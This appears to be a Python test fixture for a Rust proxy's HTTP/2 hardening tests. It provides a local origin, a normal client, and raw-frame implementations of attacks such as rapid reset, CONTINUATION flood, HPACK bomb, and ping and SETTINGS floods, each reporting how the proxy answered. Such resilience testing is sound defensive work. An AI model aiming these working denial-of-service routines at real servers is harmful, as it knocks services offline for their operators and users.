#!/usr/bin/env python3
"""HTTP/2 attack fixtures for tests/tests/h2_attacks.rs.

Three kinds of process, chosen by the first argument:

* ``origin``: an h2c (prior knowledge) origin on 127.0.0.1:0. It prints
  ``listening 127.0.0.1:PORT`` and serves until killed:
    /bytes/N   200 with N bytes, sent as the peer's flow-control window allows
    /delay/MS  200 "ok" after MS milliseconds
    /sink      reads the request body to its end, then 200 "ok"
    anything   200 "ok PATH"
* ``good``: a well-behaved h2 client. It sends one GET every --interval over
  one connection (a new one if the proxy closes it) for --duration seconds,
  then prints one JSON line: {"ok", "failed": [...], "max_latency"}.
* an attack (``rapid-reset``, ``continuation``, ``hpack-bomb``,
  ``big-headers``, ``settings-flood``, ``ping-flood``, ``empty-data``,
  ``zero-window``, ``many-streams``): plays the attack with raw frames
  (hyperframe and hpack) against --addr for --duration seconds, opening new
  connections as the proxy closes them, and prints one JSON line saying
  what the proxy answered.

Only the Python packages ``h2`` (and its ``hyperframe``, ``hpack``) are used;
scripts/install-deps.sh installs them.
"""

import argparse
import asyncio
import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# RFC 9113 error codes by value, for the JSON reports.
ERRORS = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}


def err_name(code):
    return ERRORS.get(code, "0x%x" % code)


def hpack_int(n, prefix_bits, first=0):
    """An HPACK integer (RFC 7541, section 5.1) with its first byte's high
    bits set to first."""
    top = (1 << prefix_bits) - 1
    if n < top:
        return bytes([first | n])
    out = bytearray([first | top])
    n -= top
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def literal(name, value, indexed=False):
    """A literal header field with a new name, no Huffman coding: with
    incremental indexing (into the dynamic table) or without indexing."""
    first = b"\x40" if indexed else b"\x00"
    return first + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


# ---------------------------------------------------------------- origin


class OriginProtocol(asyncio.Protocol):
    def __init__(self):
        cfg = h2.config.H2Configuration(client_side=False, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config=cfg)
        self.transport = None
        self.paths = {}
        # stream id -> bytes still to send
        self.pending = {}

    def connection_made(self, transport):
        self.transport = transport
        self.conn.initiate_connection()
        self.conn.update_settings(
            {h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 2048}
        )
        self.flush()

    def flush(self):
        data = self.conn.data_to_send()
        if data and not self.transport.is_closing():
            self.transport.write(data)

    def data_received(self, data):
        try:
            events = self.conn.receive_data(data)
        except Exception:  # a peer the origin cannot talk to: drop it
            self.transport.close()
            return
        for ev in events:
            if isinstance(ev, h2.events.RequestReceived):
                hdrs = dict(ev.headers)
                self.paths[ev.stream_id] = hdrs.get(":path", "/")
            elif isinstance(ev, h2.events.DataReceived):
                if ev.flow_controlled_length:
                    self.conn.acknowledge_received_data(
                        ev.flow_controlled_length, ev.stream_id
                    )
            elif isinstance(ev, h2.events.StreamEnded):
                self.answer(ev.stream_id)
            elif isinstance(ev, h2.events.StreamReset):
                self.pending.pop(ev.stream_id, None)
                self.paths.pop(ev.stream_id, None)
            elif isinstance(ev, h2.events.ConnectionTerminated):
                self.transport.close()
                return
        self.pump()
        self.flush()

    def answer(self, sid):
        path = self.paths.pop(sid, "/")
        if path.startswith("/bytes/"):
            n = int(path[len("/bytes/"):])
            self.headers(sid, n)
            self.pending[sid] = n
        elif path.startswith("/delay/"):
            ms = int(path[len("/delay/"):])
            asyncio.get_running_loop().call_later(ms / 1000.0, self.later, sid)
        else:
            self.small(sid, ("ok " + path).encode())

    def headers(self, sid, n):
        self.conn.send_headers(
            sid, [(":status", "200"), ("content-length", str(n))]
        )

    def small(self, sid, body):
        try:
            self.headers(sid, len(body))
            self.conn.send_data(sid, body, end_stream=True)
        except Exception:  # the stream was reset meanwhile
            pass

    def later(self, sid):
        if self.transport.is_closing():
            return
        self.small(sid, b"ok")
        self.flush()

    def pump(self):
        for sid in list(self.pending):
            left = self.pending[sid]
            try:
                while left > 0:
                    window = self.conn.local_flow_control_window(sid)
                    n = min(left, window, self.conn.max_outbound_frame_size)
                    if n <= 0:
                        break
                    left -= n
                    self.conn.send_data(sid, b"x" * n, end_stream=left == 0)
            except Exception:
                left = 0
            if left == 0:
                del self.pending[sid]
            else:
                self.pending[sid] = left


async def origin_main():
    loop = asyncio.get_running_loop()
    server = await loop.create_server(OriginProtocol, "127.0.0.1", 0)
    host, port = server.sockets[0].getsockname()[:2]
    print("listening %s:%d" % (host, port), flush=True)
    await server.serve_forever()


# ---------------------------------------------------------------- raw peer


class Raw:
    """One client connection spoken in raw frames. Records what the proxy
    sent: GOAWAY, resets by stream, response statuses by stream, DATA bytes
    by stream, and whether the connection closed."""

    def __init__(self, addr, authority, settings=None, timeout=5.0):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = authority
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.buf = bytearray()
        self.goaway = None
        self.resets = {}
        self.statuses = {}
        self.data = {}
        self.ended = set()
        self.closed = False
        self.server_settings = None
        self.settings_acked = False
        self.next_id = 1
        self.bytes_sent = 0
        s = SettingsFrame(0)
        for k, v in (settings or {}).items():
            s.settings[k] = v
        self.send(PREFACE + s.serialize())

    def new_id(self):
        sid = self.next_id
        self.next_id += 2
        return sid

    def send(self, b):
        """Writes b; False once the proxy closed the connection (or it
        stopped reading for longer than the socket's timeout)."""
        if self.closed:
            return False
        try:
            self.sock.sendall(b)
            self.bytes_sent += len(b)
            return True
        except socket.timeout:
            return False
        except OSError:
            self.closed = True
            return False

    def block(self, path, method="GET", extra=()):
        hdrs = [
            (":method", method),
            (":scheme", "http"),
            (":authority", self.authority),
            (":path", path),
        ] + list(extra)
        return self.enc.encode(hdrs)

    def headers_frame(self, sid, path, end_stream=True, method="GET", extra=()):
        f = HeadersFrame(sid)
        f.data = self.block(path, method, extra)
        f.flags.add("END_HEADERS")
        if end_stream:
            f.flags.add("END_STREAM")
        return f.serialize()

    def poll(self, timeout=0.0):
        """Reads what has arrived (waiting up to timeout for the first
        bytes) and handles the frames in it."""
        if self.closed:
            return
        end = time.monotonic() + timeout
        while True:
            left = max(0.0, end - time.monotonic())
            r, _, _ = select.select([self.sock], [], [], left)
            if not r:
                return
            try:
                chunk = self.sock.recv(1 << 20)
            except (socket.timeout, BlockingIOError):
                return
            except OSError:
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.buf += chunk
            self.parse()
            # Keep reading without waiting while bytes are there.
            end = time.monotonic()

    def parse(self):
        while len(self.buf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(bytes(self.buf[:9])))
            if len(self.buf) < 9 + length:
                return
            body = bytes(self.buf[9 : 9 + length])
            del self.buf[: 9 + length]
            f.parse_body(memoryview(body))
            self.handle(f)

    def handle(self, f):
        if isinstance(f, SettingsFrame):
            if "ACK" in f.flags:
                self.settings_acked = True
            else:
                self.server_settings = dict(f.settings)
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(f, GoAwayFrame):
            self.goaway = err_name(f.error_code)
        elif isinstance(f, RstStreamFrame):
            self.resets[f.stream_id] = err_name(f.error_code)
        elif isinstance(f, HeadersFrame):
            try:
                for k, v in self.dec.decode(f.data, raw=True):
                    if k == b":status":
                        self.statuses.setdefault(f.stream_id, int(v))
            except Exception:
                pass
            if "END_STREAM" in f.flags:
                self.ended.add(f.stream_id)
        elif isinstance(f, DataFrame):
            self.data[f.stream_id] = self.data.get(f.stream_id, 0) + len(f.data)
            if "END_STREAM" in f.flags:
                self.ended.add(f.stream_id)
        elif isinstance(f, PingFrame):
            if "ACK" not in f.flags:
                self.send(PingFrame(0, opaque_data=f.opaque_data, flags=["ACK"]).serialize())

    def wait(self, pred, timeout):
        end = time.monotonic() + timeout
        while not pred() and not self.closed and time.monotonic() < end:
            self.poll(min(0.05, max(0.0, end - time.monotonic())))
        return pred()

    def handshake(self, timeout=5.0):
        return self.wait(lambda: self.server_settings is not None and self.settings_acked, timeout)

    def finish(self, timeout=3.0):
        """Waits for the proxy to close the connection (or to go quiet)."""
        self.wait(lambda: False, timeout)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


class Report:
    def __init__(self, mode):
        self.r = {"mode": mode, "connections": 0, "goaway": {}, "resets": {}, "closed": 0}

    def conn(self, c):
        self.r["connections"] += 1
        if c.goaway is not None:
            self.r["goaway"][c.goaway] = self.r["goaway"].get(c.goaway, 0) + 1
        for code in c.resets.values():
            self.r["resets"][code] = self.r["resets"].get(code, 0) + 1
        if c.closed:
            self.r["closed"] += 1

    def __setitem__(self, k, v):
        self.r[k] = v

    def __getitem__(self, k):
        return self.r[k]

    def print(self):
        print(json.dumps(self.r), flush=True)


# ---------------------------------------------------------------- attacks


def rapid_reset(a, rep):
    """HEADERS then RST_STREAM(CANCEL) at once, in bursts, until GOAWAY."""
    streams = 0
    while time.monotonic() < a.until:
        c = Raw(a.addr, a.authority)
        c.handshake()
        while not c.closed and c.goaway is None and time.monotonic() < a.until:
            burst = bytearray()
            for _ in range(50):
                sid = c.new_id()
                burst += c.headers_frame(sid, "/rapid")
                burst += RstStreamFrame(sid, error_code=0x8).serialize()
            if not c.send(bytes(burst)):
                break
            streams += 50
            c.poll(0)
        c.finish(2.0)
        rep.conn(c)
        c.close()
    rep["streams"] = streams


def continuation(a, rep):
    """A HEADERS without END_HEADERS, then CONTINUATION frames without end:
    valid HPACK literals split over the frames, alternating between full
    16 KiB frames and empty ones, a connection each."""
    frames = 0
    sent = 0
    n = 0
    statuses = []
    while time.monotonic() < a.until:
        c = Raw(a.addr, a.authority)
        c.handshake()
        empty = n % 2 == 1
        n += 1
        sid = c.new_id()
        h = HeadersFrame(sid)
        h.data = c.block("/continuation")
        h.flags.add("END_STREAM")
        c.send(h.serialize())
        # A literal header field without indexing, new name, 1000-byte value,
        # no Huffman: 0x00, name length, name, value length (7-bit prefix
        # integer), value.
        field = literal(b"x-flood", b"v" * 1000)
        payload = field * (16384 // len(field) + 1)
        per_conn = 0
        while not c.closed and c.goaway is None and time.monotonic() < a.until:
            burst = bytearray()
            for _ in range(8):
                cf = ContinuationFrame(sid)
                cf.data = b"" if empty else payload[:16384]
                payload = payload[16384:] + payload[:16384] if not empty else payload
                burst += cf.serialize()
            if not c.send(bytes(burst)):
                break
            frames += 8
            per_conn += len(burst)
            c.poll(0)
            if per_conn > 64 * 1024 * 1024:
                break
        c.finish(2.0)
        rep.conn(c)
        sent = max(sent, per_conn)
        if sid in c.statuses:
            statuses.append(c.statuses[sid])
        c.close()
    rep["statuses"] = statuses
    rep["frames"] = frames
    rep["max_bytes_per_connection"] = sent


def one_stream_each(a, rep, make_block):
    """Sends one request per connection whose header block make_block
    builds, and records how the proxy answered it."""
    answers = {}
    while time.monotonic() < a.until:
        c = Raw(a.addr, a.authority)
        c.handshake()
        sid = c.new_id()
        block = make_block(c)
        # Split into frames of at most 16 KiB (the default SETTINGS_MAX_FRAME_SIZE).
        chunks = [block[i : i + 16384] for i in range(0, len(block), 16384)] or [b""]
        out = bytearray()
        for i, ch in enumerate(chunks):
            f = HeadersFrame(sid) if i == 0 else ContinuationFrame(sid)
            f.data = ch
            if i == 0:
                f.flags.add("END_STREAM")
            if i == len(chunks) - 1:
                f.flags.add("END_HEADERS")
            out += f.serialize()
        c.send(bytes(out))
        c.wait(
            lambda: sid in c.resets or sid in c.ended or c.goaway is not None,
            5.0,
        )
        if sid in c.statuses:
            key = "status %d" % c.statuses[sid]
        elif sid in c.resets:
            key = "reset " + c.resets[sid]
        elif c.goaway is not None:
            key = "goaway " + c.goaway
        elif c.closed:
            key = "closed"
        else:
            key = "nothing"
        answers[key] = answers.get(key, 0) + 1
        rep.conn(c)
        c.close()
    rep["answers"] = answers


def big_headers(a, rep):
    """One header field of --size bytes (just over limits.max_head_bytes)."""

    def make(c):
        return c.block("/big", extra=[("x-big", "b" * a.size)])

    one_stream_each(a, rep, make)


def hpack_bomb(a, rep):
    """One 4000-byte header put into the dynamic table, then referenced by
    its 1-byte index thousands of times: a 14 KiB block that decodes to
    tens of MiB."""

    def make(c):
        block = bytearray(c.block("/bomb"))
        block += literal(b"x-bomb", b"B" * 4000, indexed=True)
        # After the static table's 61 entries, index 62 is the newest dynamic one.
        block += bytes([0x80 | 62]) * 10000
        # The next block must start from the proxy's view of the table:
        # a fresh connection per request keeps it simple.
        return bytes(block)

    one_stream_each(a, rep, make)


def flood(a, rep, make_frame, batch=1000):
    """Writes frames without ever reading, until --duration is over; counts
    how many went out before the proxy stopped reading or closed."""
    frames = 0
    stalled = 0
    while time.monotonic() < a.until:
        c = Raw(a.addr, a.authority, timeout=0.5)
        # A client that never reads: not even the proxy's SETTINGS.
        one = make_frame(c)
        burst = one * batch
        while time.monotonic() < a.until:
            if c.send(burst):
                frames += batch
            elif c.closed:
                break
            else:
                # The kernel buffers are full: the proxy stopped reading
                # (backpressure). Keep pushing.
                stalled += 1
        # Now see what it had said.
        c.sock.settimeout(5.0)
        c.wait(lambda: c.goaway is not None, 3.0)
        rep.conn(c)
        c.close()
    rep["frames"] = frames
    rep["stalled_writes"] = stalled


def settings_flood(a, rep):
    def make(c):
        s = SettingsFrame(0)
        s.settings[SettingsFrame.HEADER_TABLE_SIZE] = 4096
        s.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 65535
        return s.serialize()

    flood(a, rep, make)


def ping_flood(a, rep):
    flood(a, rep, lambda c: PingFrame(0, opaque_data=b"12345678").serialize())


def empty_data(a, rep):
    """A POST whose body is endless empty DATA frames (no END_STREAM), on a
    few streams of each connection."""
    frames = 0
    while time.monotonic() < a.until:
        c = Raw(a.addr, a.authority)
        c.handshake()
        sids = [c.new_id() for _ in range(4)]
        c.send(b"".join(c.headers_frame(s, "/sink", end_stream=False, method="POST") for s in sids))
        empties = b"".join(DataFrame(s).serialize() for s in sids) * 250
        while not c.closed and c.goaway is None and time.monotonic() < a.until:
            if not c.send(empties):
                if c.closed:
                    break
                continue
            frames += 1000
            c.poll(0)
        c.poll(0.5)
        rep.conn(c)
        c.close()
    rep["frames"] = frames


def zero_window(a, rep):
    """SETTINGS_INITIAL_WINDOW_SIZE = 0 and never a WINDOW_UPDATE, on
    --streams requests for a large response each; records when each
    stream was reset."""
    rounds = []
    while time.monotonic() < a.until:
        c = Raw(a.addr, a.authority, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        c.handshake()
        sids = [c.new_id() for _ in range(a.streams)]
        start = time.monotonic()
        c.send(b"".join(c.headers_frame(s, "/bytes/%d" % a.size) for s in sids))
        c.wait(lambda: all(s in c.statuses for s in sids), 5.0)
        heads = time.monotonic() - start
        c.wait(lambda: all(s in c.resets or s in c.ended for s in sids), 15.0)
        rounds.append(
            {
                "heads_after": heads,
                "reset_after": time.monotonic() - start,
                "statuses": sorted(set(c.statuses.get(s, 0) for s in sids)),
                "resets": sorted(set(c.resets.get(s, "none") for s in sids)),
                "reset_streams": sum(1 for s in sids if s in c.resets),
                "data_bytes": sum(c.data.get(s, 0) for s in sids),
                "ended": sum(1 for s in sids if s in c.ended),
            }
        )
        rep.conn(c)
        c.close()
    rep["rounds"] = rounds


def many_streams(a, rep):
    """--streams requests for a slow answer (/delay/MS) in one burst, after
    the SETTINGS exchange, on one connection per round."""
    rounds = []
    while time.monotonic() < a.until:
        c = Raw(a.addr, a.authority)
        c.handshake()
        sids = [c.new_id() for _ in range(a.streams)]
        c.send(b"".join(c.headers_frame(s, "/delay/%d" % a.delay_ms) for s in sids))
        c.wait(lambda: all(s in c.resets or s in c.ended for s in sids), a.delay_ms / 1000.0 + 10.0)
        refused = [s for s in sids if c.resets.get(s) == "REFUSED_STREAM"]
        rounds.append(
            {
                "ok": sum(1 for s in sids if c.statuses.get(s) == 200 and s in c.ended),
                "refused": len(refused),
                "first_refused_index": sids.index(refused[0]) if refused else None,
                "other_resets": sorted(set(v for s, v in c.resets.items() if v != "REFUSED_STREAM")),
                "max_concurrent_streams": (c.server_settings or {}).get(SettingsFrame.MAX_CONCURRENT_STREAMS),
            }
        )
        rep.conn(c)
        c.close()
    rep["rounds"] = rounds


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "hpack-bomb": hpack_bomb,
    "big-headers": big_headers,
    "settings-flood": settings_flood,
    "ping-flood": ping_flood,
    "empty-data": empty_data,
    "zero-window": zero_window,
    "many-streams": many_streams,
}


# ---------------------------------------------------------------- good client


def good(a):
    ok = 0
    failed = []
    max_latency = 0.0
    c = None
    while time.monotonic() < a.until:
        if c is None or c.closed or c.goaway is not None:
            if c is not None:
                c.close()
            try:
                c = Raw(a.addr, a.authority)
                if not c.handshake():
                    failed.append("no SETTINGS from the proxy")
                    c = None
                    time.sleep(a.interval)
                    continue
            except OSError as e:
                failed.append("connect: %s" % e)
                c = None
                time.sleep(a.interval)
                continue
        sid = c.new_id()
        path = "/good/%d" % sid
        t = time.monotonic()
        c.send(c.headers_frame(sid, path))
        c.wait(lambda: sid in c.ended or sid in c.resets, 10.0)
        lat = time.monotonic() - t
        max_latency = max(max_latency, lat)
        body_ok = c.data.get(sid, 0) == len("ok " + path)
        if c.statuses.get(sid) == 200 and sid in c.ended and body_ok:
            ok += 1
        else:
            failed.append(
                "stream %d: status %s reset %s ended %s data %s after %.3fs"
                % (sid, c.statuses.get(sid), c.resets.get(sid), sid in c.ended, c.data.get(sid), lat)
            )
        # WINDOW_UPDATE for what was read, so long runs never run dry.
        n = c.data.get(sid, 0)
        if n:
            c.send(WindowUpdateFrame(0, window_increment=n).serialize())
        time.sleep(a.interval)
    if c is not None:
        c.close()
    print(json.dumps({"ok": ok, "failed": failed, "max_latency": max_latency}), flush=True)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["origin", "good"] + sorted(ATTACKS))
    p.add_argument("--addr", help="the proxy's listener, HOST:PORT")
    p.add_argument("--authority", default="api")
    p.add_argument("--duration", type=float, default=3.0)
    p.add_argument("--interval", type=float, default=0.05)
    p.add_argument("--size", type=int, default=1 << 20)
    p.add_argument("--streams", type=int, default=1)
    p.add_argument("--delay-ms", type=int, default=3000)
    a = p.parse_args()
    if a.mode == "origin":
        asyncio.run(origin_main())
        return
    a.until = time.monotonic() + a.duration
    if a.mode == "good":
        good(a)
        return
    rep = Report(a.mode)
    ATTACKS[a.mode](a, rep)
    rep.print()


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(0)
